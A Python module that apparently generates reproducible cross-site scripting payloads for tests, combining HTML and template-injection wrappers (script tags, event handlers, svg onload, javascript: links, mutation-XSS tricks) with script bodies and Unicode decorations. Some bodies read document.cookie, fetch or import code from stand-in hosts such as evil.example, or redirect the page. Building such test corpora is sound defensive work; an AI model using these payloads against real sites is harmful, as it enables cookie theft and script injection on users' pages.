"""Scripts that people try to smuggle into a text, made of parts: containers, events, schemes, encodings."""

import random

CONTAINERS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</ScRiPt >",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    '" onmouseover="{0}" x="',
    "' autofocus onfocus='{0}' y='",
    "<svg/onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href='javascript:{0}'>x</a>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "<math><mtext></mtext><style><img src onerror={0}></style></math>",
    "<details open ontoggle={0}>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "{{% debug %}}<b onclick={0}>",
    "<!--><img src=x onerror={0}>-->",
)
RAN = "kanafRan"
"""What a script of these sets on the window when it runs; the others open a dialogue or call a foreign host."""
CODES = (
    "alert(1)",
    "fetch('//evil.example')",
    f"window.{RAN}=document.cookie",
    "top.location='//e.example'",
    f"eval('window.{RAN}=1')",
    "import('//e.example/x.js')",
)
AROUND = ("{0}", "Texte {0}", "{0} نص", "\u202e{0}", "ﬁn {0}", "  {0}  ", "{0}\u200b", "é{0}")


def payloads(number: int, seed: int = 24) -> list[str]:
    """So many different ones, the same in every run."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < number:
        code = chance.choice(CODES) + f"//{chance.randrange(10**6)}"
        text = chance.choice(CONTAINERS).format(code)
        found[chance.choice(AROUND).format(text)] = None
    return list(found)
